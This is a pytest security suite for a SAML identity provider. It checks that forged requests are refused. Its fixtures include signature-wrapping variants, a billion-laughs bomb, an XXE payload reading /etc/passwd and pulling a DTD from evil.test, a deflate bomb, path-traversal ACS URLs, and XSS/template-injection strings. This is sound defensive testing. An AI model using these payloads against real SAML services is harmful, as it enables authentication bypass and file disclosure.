"""SECURITY.md's SAML catalogue (S01–S28), driven from the outside with hand-made requests."""

from __future__ import annotations

import base64
import copy
import re
import time
import xml.dom.minidom
from typing import Any

import pytest
from lxml import etree

from idp.storage.saml_store import SqlSamlStore
from tests.conftest import DEFAULT_PASSWORD
from tests.protocols.saml import forge
from tests.protocols.saml.conftest import ENTITY_ID, OneLoginSp, autopost, login_through, path_of

DS = "http://www.w3.org/2000/09/xmldsig#"


def _refused(response: Any, status: int) -> None:
    body = response.get_data(as_text=True)
    assert response.status_code == status, body[:800]
    assert "SAMLResponse" not in body and "<form method=\"post\" action=\"https://sp" not in body


def _signed(sp: OneLoginSp, now: Any, **kwargs: Any) -> bytes:
    return forge.sign(forge.authn_request(sp.entity_id, now, **kwargs), sp.key, sp.cert)


# --- S01 unsigned request where the SP's metadata requires signing ------------------------------------


def test_s01_unsigned_post_request_refused(client: Any, clock: Any, sp1: OneLoginSp) -> None:
    response = forge.post(client, etree.tostring(forge.authn_request(sp1.entity_id, clock.now())))
    _refused(response, 403)
    assert "Requête SAML non signée" in response.get_data(as_text=True)


def test_s01_unsigned_redirect_request_refused(client: Any, clock: Any, sp1: OneLoginSp) -> None:
    xml = etree.tostring(forge.authn_request(sp1.entity_id, clock.now(), destination=forge.SSO_REDIRECT))
    _refused(forge.redirect(client, xml), 403)


def test_s01_an_exempted_sp_may_send_unsigned_requests(client: Any, clock: Any, sp2: OneLoginSp) -> None:
    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now()))
    assert forge.post(client, xml).status_code == 303


@pytest.mark.parametrize("binding", ["post", "redirect"])
def test_s01_an_sp_that_does_not_sign_is_refused_by_default(client: Any, clock: Any, register_sp: Any,
                                                            sp_keypairs: Any, idp_cert: bytes, binding: str) -> None:
    """Its metadata says ``AuthnRequestsSigned="false"``, ours ``WantAuthnRequestsSigned="true"``: no exemption,
    no login."""
    sp = OneLoginSp("sp2", sp_keypairs["sp2"], idp_cert, sign_requests=False)
    register_sp(sp)
    if binding == "post":
        response = forge.post(client, etree.tostring(forge.authn_request(sp.entity_id, clock.now())))
    else:
        xml = etree.tostring(forge.authn_request(sp.entity_id, clock.now(), destination=forge.SSO_REDIRECT))
        response = forge.redirect(client, xml)
    _refused(response, 403)
    assert "Requête SAML non signée" in response.get_data(as_text=True)


def test_s01_an_exemption_never_covers_an_sp_whose_metadata_promises_signatures(
        client: Any, clock: Any, services: Any, sp1: OneLoginSp) -> None:
    """Defence in depth: the row changed behind the commands' back (which refuse it) still requires them."""
    with services.uow() as uow:
        SqlSamlStore(uow.session).set_policy(sp1.entity_id, services.clock.now(), allow_unsigned_requests=True)
        uow.commit()
    services.frontends["saml"]._sp_rows.clear()
    _refused(forge.post(client, etree.tostring(forge.authn_request(sp1.entity_id, clock.now()))), 403)


# --- S02 Redirect binding: the signature covers the raw query ----------------------------------------


@pytest.mark.parametrize("change", ["relay_state", "sig_alg", "request", "reencoded"])
def test_s02_altered_redirect_query_refused(client: Any, clock: Any, sp1: OneLoginSp, change: str) -> None:
    xml = etree.tostring(forge.authn_request(sp1.entity_id, clock.now(), destination=forge.SSO_REDIRECT))
    query = forge.redirect_query(xml, relay_state="a b", key=sp1.key)
    if change == "relay_state":
        query = query.replace("RelayState=a+b", "RelayState=a+c")
    elif change == "sig_alg":
        query = query.replace("rsa-sha256", "rsa-sha512")
    elif change == "request":
        other = etree.tostring(forge.authn_request(sp1.entity_id, clock.now(), destination=forge.SSO_REDIRECT))
        query = forge.redirect_query(other) + query[query.index("&"):]
    else:
        query = query.replace("RelayState=a+b", "RelayState=a%20b")
    _refused(client.get("/saml/sso/redirect?" + query), 403)


def test_s02_valid_redirect_signature_accepted(client: Any, clock: Any, sp1: OneLoginSp) -> None:
    xml = etree.tostring(forge.authn_request(sp1.entity_id, clock.now(), destination=forge.SSO_REDIRECT))
    assert forge.redirect(client, xml, relay_state="a b", key=sp1.key).status_code == 303


# --- S03 signature wrapping (XSW1–XSW8) on a signed AuthnRequest --------------------------------------


def _evil(sp: OneLoginSp, now: Any, **kwargs: Any) -> etree._Element:
    return forge.authn_request(sp.entity_id, now, acs="https://evil.test/acs", **kwargs)


def _xsw_variants(sp: OneLoginSp, now: Any) -> dict[str, bytes]:
    signed = etree.fromstring(_signed(sp, now))
    sig = signed.find(f"{{{DS}}}Signature")
    variants: dict[str, etree._Element] = {}
    # XSW1: an unsigned evil root wrapping the signed original (in Extensions).
    evil = _evil(sp, now)
    etree.SubElement(evil, f"{{{forge.SAMLP}}}Extensions").append(copy.deepcopy(signed))
    variants["xsw1-wrapped-in-extensions"] = evil
    # XSW2: the original's signature moved onto an evil root with a different ID.
    evil = _evil(sp, now)
    evil.insert(1, copy.deepcopy(sig))
    variants["xsw2-signature-moved"] = evil
    # XSW3: an evil root reusing the signed ID, the original kept inside.
    evil = _evil(sp, now, request_id=signed.get("ID"))
    evil.insert(1, copy.deepcopy(sig))
    etree.SubElement(evil, f"{{{forge.SAMLP}}}Extensions").append(copy.deepcopy(signed))
    variants["xsw3-same-id-clone"] = evil
    # XSW4: the signed original with an evil clone inserted inside it.
    wrapped = copy.deepcopy(signed)
    etree.SubElement(wrapped, f"{{{forge.SAMLP}}}Extensions").append(_evil(sp, now))
    variants["xsw4-clone-inside"] = wrapped
    # XSW5: the signed copy placed in ds:Object of the signature of an evil root.
    evil = _evil(sp, now, request_id=signed.get("ID"))
    moved = copy.deepcopy(sig)
    etree.SubElement(moved, f"{{{DS}}}Object").append(copy.deepcopy(signed))
    evil.insert(1, moved)
    variants["xsw5-copy-in-object"] = evil
    # XSW6: the evil root's signature points at a child element carrying the signed ID.
    evil = _evil(sp, now)
    evil.insert(1, copy.deepcopy(sig))
    child = etree.SubElement(evil, f"{{{forge.SAMLP}}}Extensions")
    child.set("ID", signed.get("ID"))
    variants["xsw6-reference-to-child"] = evil
    # XSW7: duplicate ID under another attribute name (Id) elsewhere in the signed document.
    dup = copy.deepcopy(signed)
    etree.SubElement(dup, f"{{{forge.SAMLP}}}Extensions").set("Id", signed.get("ID"))
    variants["xsw7-duplicate-id"] = dup
    # XSW8: the signed original attached as a sibling of an evil root's issuer (evil first in document order).
    evil = _evil(sp, now, request_id=signed.get("ID"))
    evil.append(copy.deepcopy(signed))
    variants["xsw8-original-as-sibling"] = evil
    return {name: etree.tostring(root) for name, root in variants.items()}


@pytest.mark.parametrize("variant", ["xsw1-wrapped-in-extensions", "xsw2-signature-moved", "xsw3-same-id-clone",
                                     "xsw4-clone-inside", "xsw5-copy-in-object", "xsw6-reference-to-child",
                                     "xsw7-duplicate-id", "xsw8-original-as-sibling"])
def test_s03_signature_wrapping_refused(client: Any, clock: Any, sp1: OneLoginSp, variant: str) -> None:
    xml = _xsw_variants(sp1, clock.now())[variant]
    _refused(forge.post(client, xml), 403)


def test_s03_untouched_signed_request_accepted(client: Any, clock: Any, sp1: OneLoginSp) -> None:
    assert forge.post(client, _signed(sp1, clock.now())).status_code == 303


# --- S05, S06, S08: keys and algorithms ----------------------------------------------------------------


def test_s05_attacker_certificate_in_keyinfo_refused(client: Any, clock: Any, sp1: OneLoginSp,
                                                     sp_keypairs: Any) -> None:
    key, cert = sp_keypairs["attacker"]
    xml = forge.sign(forge.authn_request(sp1.entity_id, clock.now()), key, cert)
    _refused(forge.post(client, xml), 403)


def test_s05_hmac_signature_refused(client: Any, clock: Any, sp1: OneLoginSp) -> None:
    signed = etree.fromstring(_signed(sp1, clock.now()))
    method = signed.find(f".//{{{DS}}}SignatureMethod")
    method.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")
    _refused(forge.post(client, etree.tostring(signed)), 403)


def test_s06_sha1_signature_refused(client: Any, clock: Any, sp1: OneLoginSp) -> None:
    xml = forge.sign(forge.authn_request(sp1.entity_id, clock.now()), sp1.key, sp1.cert, alg=forge.RSA_SHA1,
                     digest=forge.SHA1)
    _refused(forge.post(client, xml), 403)
    redirect = etree.tostring(forge.authn_request(sp1.entity_id, clock.now(), destination=forge.SSO_REDIRECT))
    _refused(forge.redirect(client, redirect, key=sp1.key, sig_alg=forge.RSA_SHA1), 403)


@pytest.mark.parametrize("algorithm", ["http://www.w3.org/TR/1999/REC-xslt-19991116",
                                       "http://www.w3.org/TR/1999/REC-xpath-19991116",
                                       "http://www.w3.org/2002/06/xmldsig-filter2", "urn:unknown"])
def test_s08_transform_outside_allowlist_refused_quickly(client: Any, clock: Any, sp1: OneLoginSp,
                                                         algorithm: str) -> None:
    signed = etree.fromstring(_signed(sp1, clock.now()))
    transform = etree.SubElement(signed.find(f".//{{{DS}}}Transforms"), f"{{{DS}}}Transform", Algorithm=algorithm)
    etree.SubElement(transform, f"{{{DS}}}XPath").text = "count(//. | //@* | //namespace::*)"
    started = time.monotonic()
    _refused(forge.post(client, etree.tostring(signed)), 403)
    assert time.monotonic() - started < 1


# --- S07 DOCTYPE, S09 bombs -----------------------------------------------------------------------------

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>&lol9;</saml:Issuer></samlp:AuthnRequest>"""
EXTERNAL = b"""<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.test/p.dtd">%p;]><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>&x;</saml:Issuer></samlp:AuthnRequest>"""
UTF16 = LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")


@pytest.mark.parametrize("document", [LAUGHS, EXTERNAL, UTF16], ids=["laughs", "external", "utf16"])
def test_s07_doctype_refused_before_parsing(client: Any, document: bytes) -> None:
    started = time.monotonic()
    post = forge.post(client, document)
    redirect = client.get("/saml/sso/redirect?" + forge.redirect_query(document))
    assert time.monotonic() - started < 1
    for response in (post, redirect):
        _refused(response, 400)
        assert "Requête invalide" in response.get_data(as_text=True)


def test_s09_inflate_bomb_refused(client: Any) -> None:
    bomb = forge.deflate(b"<a>" + b" " * (20 * 1024 * 1024) + b"</a>")
    assert len(bomb) < 30 * 1024
    response = client.get("/saml/sso/redirect", query_string={"SAMLRequest": base64.b64encode(bomb).decode()})
    _refused(response, 400)


def test_s09_large_post_body_is_413(client: Any) -> None:
    response = client.post("/saml/sso/post", data={"SAMLRequest": "A" * (70 * 1024)})
    assert response.status_code == 413


# --- S10 ACS, S11 issuer, S12 destination ---------------------------------------------------------------


@pytest.mark.parametrize("fields", [{"acs": "https://evil.test/acs"}, {"acs": None, "binding": None, "index": "7"},
                                    {"binding": "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"},
                                    {"acs": "https://sp2.test/acs"}], ids=["url", "index", "binding", "other-sp"])
def test_s10_acs_not_in_metadata_refused(client: Any, clock: Any, sp2: OneLoginSp, fields: dict[str, Any]) -> None:
    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now(), **{"acs": sp2.acs, **fields}))
    if fields.get("acs") == "https://sp2.test/acs":
        xml = xml.replace(b"https://sp2.test/acs", b"https://sp2.test/acs/../evil")
    _refused(forge.post(client, xml), 400)


@pytest.mark.parametrize("acs", ["https://sp2.test/x/../acs", "https://sp2.test/x/%2e%2e/acs", "https://sp2.test/x/..%2Facs",
                                 "https://sp2.test/x/..;/acs", "https://sp2.test/./acs"])
def test_c15_acs_with_dot_segments_refused(client: Any, clock: Any, sp2: OneLoginSp, acs: str) -> None:
    """What RFC 3986 §5.2.4 would resolve to the registered ACS is still refused (idp.core.urls)."""
    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now(), acs=acs))
    _refused(forge.post(client, xml), 400)


def test_s11_unknown_issuer_refused(client: Any, clock: Any) -> None:
    xml = etree.tostring(forge.authn_request("https://unknown.test/sp", clock.now()))
    _refused(forge.post(client, xml), 400)


def test_s11_signer_other_than_issuer_refused(client: Any, clock: Any, sp1: OneLoginSp, sp2: OneLoginSp) -> None:
    xml = forge.sign(forge.authn_request(sp1.entity_id, clock.now()), sp2.key, sp2.cert)
    _refused(forge.post(client, xml), 403)


@pytest.mark.parametrize("destination", [None, "https://idp.test:8443/saml/sso/post", "https://idp.test/saml/other"])
def test_s12_destination_on_signed_request(client: Any, clock: Any, sp1: OneLoginSp, destination: str | None) -> None:
    _refused(forge.post(client, _signed(sp1, clock.now(), destination=destination)), 400)


def test_s12_unsigned_without_destination_accepted(client: Any, clock: Any, sp2: OneLoginSp) -> None:
    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now(), destination=None))
    assert forge.post(client, xml).status_code == 303


# --- S13 freshness, S14 replay --------------------------------------------------------------------------


@pytest.mark.parametrize("shift_minutes", [-7, 4])
def test_s13_stale_or_future_request_gets_request_denied(client: Any, clock: Any, sp2: OneLoginSp,
                                                         shift_minutes: int) -> None:
    import datetime as dt

    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now() + dt.timedelta(minutes=shift_minutes)))
    response = forge.post(client, xml)
    assert response.status_code == 200
    fields = autopost(response.get_data(as_text=True))
    assert fields["action"] == sp2.acs
    root = forge.response_xml(response.get_data(as_text=True))
    codes = [c.get("Value") for c in root.iter("{urn:oasis:names:tc:SAML:2.0:protocol}StatusCode")]
    assert codes == ["urn:oasis:names:tc:SAML:2.0:status:Requester", "urn:oasis:names:tc:SAML:2.0:status:RequestDenied"]


def test_s13_within_skew_accepted(client: Any, clock: Any, sp2: OneLoginSp) -> None:
    import datetime as dt

    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now() - dt.timedelta(minutes=5)))
    assert forge.post(client, xml).status_code == 303


def test_s14_replayed_request_refused(client: Any, clock: Any, sp1: OneLoginSp) -> None:
    xml = _signed(sp1, clock.now())
    assert forge.post(client, xml).status_code == 303
    response = forge.post(client, xml)
    _refused(response, 400)
    assert "déjà été utilisée" in response.get_data(as_text=True)


# --- S15 response sanity, S16 injection, S17 NameID, S18 release -------------------------------------


def _login_page(client: Any, login: Any, account: Any, sp: OneLoginSp, **kwargs: Any) -> tuple[str, str]:
    url, request_id = sp.login_url(**kwargs)
    return login_through(client, login, url, account.identifier, DEFAULT_PASSWORD), request_id


def test_s15_response_sanity_with_an_independent_parser(client: Any, login: Any, account_factory: Any, clock: Any,
                                                        sp1: OneLoginSp) -> None:
    import datetime as dt

    account = account_factory()
    page, request_id = _login_page(client, login, account, sp1)
    raw = base64.b64decode(autopost(page)["SAMLResponse"])
    dom = xml.dom.minidom.parseString(raw)  # noqa: S318 - our own output, read with expat rather than lxml
    saml, samlp = "urn:oasis:names:tc:SAML:2.0:assertion", "urn:oasis:names:tc:SAML:2.0:protocol"
    response = dom.documentElement
    assertions = dom.getElementsByTagNameNS(saml, "Assertion")
    assert len(assertions) == 1
    assertion = assertions[0]
    assert response.getAttribute("Destination") == sp1.acs and response.getAttribute("InResponseTo") == request_id
    signed = [s for s in dom.getElementsByTagNameNS(DS, "Signature") if s.parentNode is assertion]
    assert len(signed) == 1
    reference = signed[0].getElementsByTagNameNS(DS, "Reference")[0].getAttribute("URI")
    assert reference == "#" + assertion.getAttribute("ID")
    ids = [response.getAttribute("ID"), assertion.getAttribute("ID")]
    assert len(set(ids)) == 2 and all(i[0].isalpha() or i[0] == "_" for i in ids)
    issuers = [i.firstChild.data for i in dom.getElementsByTagNameNS(saml, "Issuer")]
    assert issuers == [ENTITY_ID, ENTITY_ID]
    assert dom.getElementsByTagNameNS(saml, "Audience")[0].firstChild.data == sp1.entity_id
    confirmation = dom.getElementsByTagNameNS(saml, "SubjectConfirmation")[0]
    assert confirmation.getAttribute("Method") == "urn:oasis:names:tc:SAML:2.0:cm:bearer"
    data = dom.getElementsByTagNameNS(saml, "SubjectConfirmationData")[0]
    assert data.getAttribute("Recipient") == sp1.acs and data.getAttribute("InResponseTo") == request_id
    conditions = dom.getElementsByTagNameNS(saml, "Conditions")[0]

    def t(value: str) -> dt.datetime:
        return dt.datetime.strptime(value, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=dt.UTC)

    issued = t(assertion.getAttribute("IssueInstant"))
    now = clock.now()
    assert t(conditions.getAttribute("NotBefore")) <= now < t(conditions.getAttribute("NotOnOrAfter"))
    assert t(conditions.getAttribute("NotOnOrAfter")) <= issued + dt.timedelta(minutes=5)
    assert t(data.getAttribute("NotOnOrAfter")) <= issued + dt.timedelta(minutes=5)
    statement = dom.getElementsByTagNameNS(saml, "AuthnStatement")[0]
    assert statement.getAttribute("SessionIndex") and statement.getAttribute("AuthnInstant")
    assert dom.getElementsByTagNameNS(samlp, "StatusCode")[0].getAttribute("Value").endswith(":Success")


@pytest.mark.parametrize("given", ["Jean</saml:AttributeValue><saml:AttributeValue>admin", "<!--x-->Jean",
                                   "Jean]]><x/>&amp;"])
def test_s16_xml_injection_through_attributes(client: Any, login: Any, account_factory: Any, sp1: OneLoginSp,
                                              given: str) -> None:
    account = account_factory(given, "Dupont")
    page, request_id = _login_page(client, login, account, sp1)
    auth = sp1.consume(page, request_id)
    assert auth.is_authenticated(), auth.get_errors()
    assert auth.get_attributes()["givenName"] == [given]
    root = forge.response_xml(page)
    values = root.findall(".//{urn:oasis:names:tc:SAML:2.0:assertion}Attribute[@Name='givenName']/"
                          "{urn:oasis:names:tc:SAML:2.0:assertion}AttributeValue")
    assert len(values) == 1 and values[0].text == given and len(values[0]) == 0


def test_s17_nameid_is_a_single_opaque_text_node(client: Any, login: Any, account_factory: Any,
                                                 sp1: OneLoginSp) -> None:
    account = account_factory()
    page, _ = _login_page(client, login, account, sp1)
    name_id = forge.response_xml(page).find(".//{urn:oasis:names:tc:SAML:2.0:assertion}NameID")
    assert len(name_id) == 0 and name_id.text and len(name_id.text) * 5 >= 128
    assert account.identifier not in name_id.text and account.public_id not in name_id.text


def test_s18_only_the_policy_attributes_are_released(client: Any, login: Any, account_factory: Any, services: Any,
                                                     sp1: OneLoginSp) -> None:
    from idp.storage.saml_store import SqlSamlStore

    with services.uow() as uow:
        SqlSamlStore(uow.session).set_policy(sp1.entity_id, services.clock.now(), attributes=["sn", "givenName"])
        uow.commit()
    account = account_factory(email="m@example.org")
    page, request_id = _login_page(client, login, account, sp1)
    assert sorted(sp1.consume(page, request_id).get_attributes()) == ["givenName", "sn"]


# --- S19 NameIDPolicy, S21/S27 RelayState and IDs --------------------------------------------------------


def test_s19_unsupported_nameid_format(client: Any, clock: Any, sp2: OneLoginSp) -> None:
    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now(),
                                             nameid_format="urn:oasis:names:tc:SAML:2.0:nameid-format:kerberos"))
    response = forge.post(client, xml)
    codes = [c.get("Value") for c in forge.response_xml(response.get_data(as_text=True)).iter(
        "{urn:oasis:names:tc:SAML:2.0:protocol}StatusCode")]
    assert codes[-1] == "urn:oasis:names:tc:SAML:2.0:status:InvalidNameIDPolicy"


def test_s19_allow_create_false_for_unknown_pairwise_id(client: Any, login: Any, clock: Any, account_factory: Any,
                                                        sp2: OneLoginSp) -> None:
    account = account_factory()
    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now(), allow_create="false",
                                             nameid_format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"))
    posted = forge.post(client, xml)
    form = client.get(posted.headers["Location"]).headers["Location"]
    done = login.submit(form + "?profil=parent", account.identifier, DEFAULT_PASSWORD)
    page = client.get(done.headers["Location"]).get_data(as_text=True)
    codes = [c.get("Value") for c in forge.response_xml(page).iter("{urn:oasis:names:tc:SAML:2.0:protocol}StatusCode")]
    assert codes[-1] == "urn:oasis:names:tc:SAML:2.0:status:InvalidNameIDPolicy"


def test_s21_s27_relay_state_and_id_echoed_literally(client: Any, login: Any, clock: Any, account_factory: Any,
                                                     sp2: OneLoginSp) -> None:
    account = account_factory()
    login(account.identifier)
    relay = '"><script>alert(1)</script>${java.version}{{7*7}}%s' + "x" * 900
    xml = etree.tostring(forge.authn_request(sp2.entity_id, clock.now(), request_id="_${java.version}{{7*7}}%s"))
    posted = forge.post(client, xml, relay_state=relay)
    page = client.get(posted.headers["Location"]).get_data(as_text=True)
    assert "<script>alert" not in page
    assert autopost(page)["RelayState"] == relay
    assert forge.response_xml(page).get("InResponseTo") == "_${java.version}{{7*7}}%s"
    too_long = forge.post(client, etree.tostring(forge.authn_request(sp2.entity_id, clock.now())),
                          relay_state="x" * 1100)
    _refused(too_long, 400)


def test_autopost_page_csp_allows_only_the_acs_origin(client: Any, login: Any, account_factory: Any,
                                                      sp1: OneLoginSp) -> None:
    account = account_factory()
    url, _ = sp1.login_url()
    first = client.get(path_of(url))
    done = login.submit(first.headers["Location"] + "?profil=parent", account.identifier, DEFAULT_PASSWORD)
    response = client.get(done.headers["Location"])
    csp = response.headers["Content-Security-Policy"]
    assert "form-action https://sp1.test;" in csp and "script-src 'nonce-" in csp
    assert "<button type=\"submit\"" in response.get_data(as_text=True)


@pytest.mark.parametrize("relay_state", [None, "", '"><script>alert(1)</script>&amp;\'{{7*7}}'])
def test_autopost_page_is_the_template_rendered_with_escaped_values(app: Any, relay_state: str | None) -> None:
    """The page assembled from the pre-rendered template is byte for byte what Jinja would render (S16, S21)."""
    from flask import render_template

    from idp.saml.idp import PostForm
    from idp.saml.views import render_post

    hostile = '<b x="1">Collège & «Lycée»</b>\''
    form = PostForm(action='https://sp.test/acs?a=1&b="2"', field="SAMLResponse", message="PD94+/=" + hostile,
                    relay_state=relay_state, sp_name=hostile)
    with app.test_request_context("/saml/sso/redirect"):
        for _ in range(2):  # the first call renders and keeps the page, the second assembles it
            response = render_post(form)
            nonce = re.search(r"script-src 'nonce-([^']+)'", response.headers["Content-Security-Policy"]).group(1)
            expected = render_template("saml_post.html", action=form.action, field=form.field,
                                       message=form.message, relay_state=form.relay_state, sp_name=form.sp_name,
                                       nonce=nonce)
            assert response.get_data(as_text=True) == expected
            assert response.mimetype == "text/html" and "<b x=" not in expected


# --- S04 wrapping on LogoutRequest, metadata validUntil at use -------------------------------------------


def test_s04_wrapped_logout_request_kills_no_session(client: Any, login: Any, account_factory: Any,
                                                     sp1: OneLoginSp) -> None:
    account = account_factory()
    page, request_id = _login_page(client, login, account, sp1)
    auth = sp1.consume(page, request_id)
    # A logout request for someone else, signed; then the victim's NameID placed outside the signed node.
    url = sp1.auth().logout(name_id="someone-else", session_index="x.y")
    signed = etree.fromstring(forge.sign(etree.fromstring(OneLoginSpRequest.from_url(url)), sp1.key, sp1.cert))
    wrapper = copy.deepcopy(signed)
    for child in list(wrapper):
        if child.tag.endswith("}Signature"):
            wrapper.remove(child)
    wrapper.set("ID", "_evil")
    wrapper.find("{urn:oasis:names:tc:SAML:2.0:assertion}NameID").text = auth.get_nameid()
    wrapper.append(signed)
    response = client.post("/saml/slo/post", data={"SAMLRequest": base64.b64encode(etree.tostring(wrapper)).decode()})
    _refused(response, 403)
    url, request_id = sp1.login_url()
    assert client.get(path_of(url)).status_code == 200  # the SSO session is still alive


class OneLoginSpRequest:
    @staticmethod
    def from_url(url: str) -> bytes:
        import zlib
        from urllib.parse import parse_qs, urlsplit

        value = parse_qs(urlsplit(url).query)["SAMLRequest"][0]
        xml = zlib.decompress(base64.b64decode(value), -15)
        return xml.replace(b'Destination="https://idp.test/saml/slo/redirect"',
                           b'Destination="https://idp.test/saml/slo/post"')


def test_expired_sp_metadata_is_refused_at_use(client: Any, clock: Any, services: Any, sp2: OneLoginSp) -> None:
    import datetime as dt

    from idp.saml import registry
    from idp.storage.saml_store import SqlSamlStore

    with services.uow() as uow:
        store = SqlSamlStore(uow.session)
        row = store.get_sp(sp2.entity_id)
        xml = re.sub(r'validUntil="[^"]+"', f'validUntil="{forge.instant(clock.now() + dt.timedelta(hours=1))}"',
                     row.metadata_xml, count=1)
        store.save_sp(row.entity_id, xml, registry.digest(xml), clock.now() + dt.timedelta(hours=1), row.source,
                      clock.now())
        uow.commit()
    assert forge.post(client, etree.tostring(forge.authn_request(sp2.entity_id, clock.now()))).status_code == 303
    clock.advance(hours=2)
    _refused(forge.post(client, etree.tostring(forge.authn_request(sp2.entity_id, clock.now()))), 400)


def test_c15_s29_stored_metadata_with_an_unsafe_endpoint_is_not_used(client: Any, clock: Any, services: Any,
                                                                     sp2: OneLoginSp, caplog: Any) -> None:
    """Metadata stored before the URL rule (here an ACS with a dot-segment) is treated as absent at use."""
    from idp.saml import registry
    from idp.storage.saml_store import SqlSamlStore

    with services.uow() as uow:
        store = SqlSamlStore(uow.session)
        row = store.get_sp(sp2.entity_id)
        xml = row.metadata_xml.replace("https://sp2.test/acs", "https://sp2.test/x/../acs")
        store.save_sp(row.entity_id, xml, registry.digest(xml), row.valid_until, row.source, clock.now())
        uow.commit()
    _refused(forge.post(client, etree.tostring(forge.authn_request(sp2.entity_id, clock.now()))), 400)
    assert "https://sp2.test/x/../acs" in caplog.text
